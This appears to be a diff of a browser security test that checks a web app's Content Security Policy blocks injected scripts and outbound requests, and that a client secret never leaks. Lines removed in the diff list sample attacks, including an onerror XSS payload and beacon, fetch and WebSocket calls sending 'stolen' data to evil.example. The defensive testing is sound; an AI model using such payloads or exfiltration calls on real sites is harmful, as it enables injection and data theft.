@@ -1,52 +1,54 @@
+import { tryAttacks } from './attacks.ts';
 import { expect, test } from './rollcall.ts';
-import { connectForSession, exploreDemo } from './steps.ts';
+import { connectForSession, exploreDemo, goTo } from './steps.ts';
 
-declare global {
-  // What an attack of these tests would leave behind.
-  var hits: string[];
-}
+const REFUSED = ['require-trusted-types-for', 'trusted-types', 'connect-src', 'img-src', 'form-action', 'frame-src'];
 
 test('scripts that were never shipped do not run, and nothing gets out', async ({ rollcall: { page, watch } }) => {
+  const sent: string[] = [];
+  page.on('requestfinished', (request) => sent.push(request.url()));
+  page.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && sent.push(request.url()));
   await exploreDemo(page);
-  const outcome = await page.evaluate(async () => {
-    // The debugger's own calls may evaluate strings; what comes after the first turn is the page's.
-    await new Promise((resolve) => setTimeout(resolve));
-    globalThis.hits = [];
-    const tries: Record<string, () => unknown> = {
-      inlineScript() {
-        const script = document.createElement('script');
-        // @ts-expect-error -- Trusted Types refuse the string.
-        script.text = 'hits.push("inline script")' as TrustedScript;
-        document.body.append(script);
-      },
-      foreignScript: () => {
-        const script = document.createElement('script');
-        // @ts-expect-error -- Trusted Types refuse the string.
-        script.src = 'https://evil.example/x.js' as TrustedScriptURL;
-        document.body.append(script);
-      },
-      markup: () => (document.body.innerHTML = '<img src=x onerror="hits.push(1)">'),
-      handler: () => document.body.setAttribute('onclick', 'hits.push("handler")'),
-      evaluation: () => new Function('hits.push("eval")')(),
-      style: () => document.head.insertAdjacentHTML('beforeend', '<style>body{color:red}</style>'),
-      policy: () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {}),
-      beacon: () => navigator.sendBeacon('https://evil.example/', 'stolen'),
-      fetch: () => fetch('https://evil.example/?stolen'),
-      socket: () => new WebSocket('wss://evil.example/'),
-      worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
-    };
-    const results: Record<string, string> = {};
-    for (const [name, attempt] of Object.entries(tries)) {
-      try {
-        await attempt();
-        results[name] = 'did not throw';
-      } catch (error) {
-        results[name] = error instanceof Error ? error.name : 'refused';
-      }
-    }
-    return { results, hits: globalThis.hits };
+  expect(await page.evaluate(tryAttacks)).toEqual({
+    hits: [],
+    outcomes: {
+      inlineScript: 'TypeError',
+      foreignScript: 'TypeError',
+      markup: 'TypeError',
+      handler: 'TypeError',
+      evaluation: 'EvalError',
+      styleElement: 'TypeError',
+      policy: 'TypeError',
+      worker: 'TypeError',
+      fetch: 'TypeError',
+      // These fail without a sound; that nothing was sent is looked at below.
+      beacon: 'nothing',
+      socket: 'nothing',
+      image: 'nothing',
+      form: 'nothing',
+      frame: 'nothing',
+    },
   });
-  expect(outcome.hits).toEqual([]);
-  expect(outcome.results).toEqual({});
+  const complaints = (): string => watch.complaints.join('\n');
+  for (const directive of REFUSED) await expect.poll(complaints).toContain(`securitypolicyviolation ${directive} `);
   watch.take();
+  expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
+  await expect(page.getByText('Demo data - connect your account')).toBeVisible();
+});
+
+test('the secret goes in and never comes out again', async ({ rollcall: { page }, kore }) => {
+  const answers: string[] = [];
+  page.on('response', (response) => {
+    void response.text().then(
+      (text) => answers.push(text),
+      () => undefined,
+    );
+  });
+  await connectForSession(page, kore);
+  await goTo(page, 'Settings');
+  await page.getByRole('button', { name: 'Change…' }).click();
+  await expect(page.getByLabel('Client ID', { exact: true })).toHaveValue(kore.clientId);
+  await expect(page.getByLabel('Client secret', { exact: true })).toHaveValue('');
+  expect(answers.filter((text) => text.includes(kore.clientSecret))).toEqual([]);
+  // Pages, storages, addresses, files and output are looked through after every test (rollcall.ts).
 });
